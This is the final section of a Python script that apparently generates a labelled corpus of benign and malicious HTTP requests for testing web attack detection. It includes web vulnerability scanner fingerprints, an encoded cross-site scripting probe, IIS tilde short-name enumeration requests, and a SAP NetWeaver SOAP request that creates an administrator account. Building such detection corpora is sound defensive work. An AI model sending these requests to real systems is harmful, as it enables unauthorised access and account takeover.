    host = lambda: r.choice(INTRA_HOSTS + ["legacy-iis.corp.local"])
    add(cat, "nikto", "GET", "/cgi-bin/test-cgi", [["Host", host()], ["User-Agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000812)"], ["Connection", "Keep-Alive"]])
    add(cat, "nikto", "GET", "/iisadmpwd/aexp2.htr", [["Host", host()], ["User-Agent", "Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:001062)"]])
    add(cat, "w3af", "GET", "/Default.aspx?id=w3af", [["Host", host()], ["User-Agent", "w3af.org"], ["Accept", "*/*"]])
    add(cat, "acunetix", "GET", "/search.asp?q=acunetix_wvs_security_test", [["Host", host()], ["User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/64.0.3282.140 Safari/537.36"],
                                                                         ["Acunetix-Aspect", "enabled"], ["Acunetix-Aspect-Password", "082119f75623eb7abd7bf357698ff66c"], ["Acunetix-Aspect-Queries", "filelist;aspectalerts"]])
    add(cat, "webinspect", "GET", "/WebResource.axd", [["Host", host()], ["User-Agent", "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1)"],
                                                      ["X-Scan-Memo", "Category=\"Audit.Attack\"; SID=\"84D4F1F2D9B4F8F1\"; PSID=\"D3C8E3B5\"; SessionType=\"AuditAttack\"; CrawlType=\"None\"; AttackType=\"Other\"; OriginatingEngineID=\"5bfb5c4d\"; AttackSequence=\"0\"; AttackParamDesc=\"\"; AttackParamIndex=\"0\"; AttackParamSubIndex=\"0\"; CheckId=\"10240\"; Engine=\"Request+Modify\"; Retry=\"False\"; SmartMode=\"NonServerSpecificOnly\"; ThreadId=\"47\"; ThreadType=\"StateRequestorThread\";"],
                                                      ["X-RequestManager-Memo", "sc=\"1\";id=\"33\";"], ["X-Request-Memo", "ID=\"d63d6e95\";tid=\"47\";"]])
    add(cat, "netsparker", "GET", "/HR/EmployeeList.aspx?sort=%27%22--%3E%3C%2Fstyle%3E%3C%2Fscript%3E%3Cscript%3Enetsparker(0x000A5B)%3C%2Fscript%3E",
        [["Host", host()], ["User-Agent", "Mozilla/5.0 (Windows NT 6.3; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2272.16 Safari/537.36"], ["X-Scanner", "Netsparker"]])
    add(cat, "nessus", "GET", "/_vti_bin/shtml.exe/_vti_rpc", [["Host", host()], ["User-Agent", "Nessus SOAP v0.0.1 (Nessus.org)"]])
    add(cat, "sqlmap", "GET", "/news/article.asp?id=1423&cat=7", [["Host", host()], ["User-Agent", "sqlmap/1.4.7#stable (http://sqlmap.org)"], ["Accept", "*/*"]])
    add(cat, "dirbuster", "GET", "/elmah.axd", [["Host", host()], ["User-Agent", "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)"]])
    add(cat, "nmap", "GET", "/trace.axd", [["Host", host()], ["User-Agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"]])
    add(cat, "openvas", "GET", "/_vti_inf.html", [["Host", host()], ["User-Agent", "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 9.0.3)"]])
    # IIS 8.3 short-name (tilde) enumeration
    add(cat, "iis_tilde", "GET", "/*~1*/a.aspx?aspxerrorpath=/", [["Host", "legacy-iis.corp.local"], ["User-Agent", "Mozilla/5.0"]])
    add(cat, "iis_tilde", "OPTIONS", "/WEBCON~1*/.aspx", [["Host", "legacy-iis.corp.local"], ["User-Agent", "Mozilla/5.0"]])
    add(cat, "iis_tilde", "GET", "/ASPNET~1.%2A/.aspx", [["Host", "legacy-iis.corp.local"], ["User-Agent", "Mozilla/5.0"]])
    add(cat, "iis_tilde", "GET", "/%2Ab%2A~1%2A%2F.aspx", [["Host", "legacy-iis.corp.local"], ["User-Agent", "Mozilla/5.0"]])


def gen_attack_sap_recon():
    r = rng_for("attack_recon")
    body = ('<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:urn="urn:CTCWebServiceSi"><soapenv:Header/><soapenv:Body>'
            '<urn:executeSynchronious><identifier><component>sap.com/tc~lm~config~content</component>'
            '<path>content/Netweaver/ASJava/NWA/SPC/SPC_UserManagement.cproc</path></identifier>'
            '<contextMessages><baData>' + b64(b"<PCK><Usermanagement><SAP_XI_PCK_CONFIG><roleName>Administrator</roleName></SAP_XI_PCK_CONFIG>"
                                              b"<SAP_XI_PCK_COMMUNICATION><roleName>ProcessIntegrator</roleName></SAP_XI_PCK_COMMUNICATION>"
                                              b"<Usermanagement><SAP_XI_PCK_MONITOR><roleName>ProcessIntegratorMonitor</roleName></SAP_XI_PCK_MONITOR>"
                                              b"<SAP_XI_PCK_ADMIN><roleName>Administrator</roleName></SAP_XI_PCK_ADMIN><PCKUser>sapRpoc6351</PCKUser>"
                                              b"<PCKPwd>Secure!PwD8890</PCKPwd></Usermanagement></Usermanagement></PCK>") +
            '</baData><name>userDetails</name></contextMessages></urn:executeSynchronious></soapenv:Body></soapenv:Envelope>')
    add("generic", "sap_recon", "POST", "/CTCWebService/CTCWebServiceBean", attacker(r, "sapportal.corp.local:50000", ctype="text/xml;charset=UTF-8"), body)


# ---------------------------------------------------------------------------
# driver
# ---------------------------------------------------------------------------

BENIGN_GENERATORS = [
    gen_benign_webforms, gen_benign_async, gen_benign_axd, gen_benign_asmx, gen_benign_classic_asp,
    gen_benign_jsf, gen_benign_struts, gen_benign_spring, gen_benign_coldfusion, gen_benign_oracle,
    gen_benign_sap, gen_benign_domino, gen_benign_perl_cgi, gen_benign_jsp_jnlp, gen_benign_soap,
    gen_benign_reports, gen_benign_sharepoint, gen_benign_crm, gen_benign_citrix, gen_benign_peoplesoft,
    gen_benign_mainframe, gen_benign_hr_forms, gen_benign_win1252, gen_benign_ntlm, gen_benign_static,
    gen_dev_content,
]
ATTACK_GENERATORS = [
    gen_attack_sqli, gen_attack_xss, gen_attack_java, gen_attack_generic, gen_attack_sap_recon,
    gen_attack_lfi, gen_attack_rfi, gen_attack_rce, gen_attack_php, gen_attack_ssrf, gen_attack_xxe,
    gen_attack_ssti, gen_attack_nosqli, gen_attack_ldap, gen_attack_crlf, gen_attack_protocol,
    gen_attack_scanner,
]


def _key(rec):
    """Attacks must differ in request line or body; benign requests may repeat
    an endpoint (polling, another user's session) but never byte for byte."""
    if "raw_b64" in rec:
        return ("raw", rec["raw_b64"])
    if rec["expect"] == "pass":
        return (rec["method"], rec["uri"], rec.get("body"), json.dumps(rec["headers"]))
    return (rec["method"], rec["uri"], rec.get("body"))


def build(which):
    RECORDS.clear()
    _COUNTERS.clear()
    for g in (BENIGN_GENERATORS if which == "benign" else ATTACK_GENERATORS):
        g()
    seen = {}
    for rec in RECORDS:
        k = _key(rec)
        if k in seen:
            raise SystemExit("duplicate request: %s and %s" % (seen[k], rec["id"]))
        seen[k] = rec["id"]
        if "raw_b64" not in rec:
            assert any(h[0].lower() == "host" for h in rec["headers"]), rec["id"]
            assert " " not in rec["uri"] and "\n" not in rec["uri"], rec["id"]
    return list(RECORDS)


def stats():
    out = sys.stderr
    for which in ("attacks", "benign"):
        recs = build(which)
        by = {}
        for rec in recs:
            c = rec["category"] if which == "attacks" else rec["id"].split("/")[1] + ":" + rec["id"].split("/")[2].rsplit("-", 1)[0]
            by[c] = by.get(c, 0) + 1
        out.write("%s: %d\n" % (which, len(recs)))
        for c in sorted(by, key=lambda k: (-by[k], k)):
            out.write("    %-32s %d\n" % (c, by[c]))


def main(argv):
    if len(argv) != 2 or argv[1] not in ("attacks", "benign", "stats"):
        sys.stderr.write("usage: corpus-legacy.py attacks|benign|stats\n")
        return 2
    if argv[1] == "stats":
        stats()
        return 0
    for rec in build(argv[1]):
        sys.stdout.write(json.dumps(rec, ensure_ascii=False) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
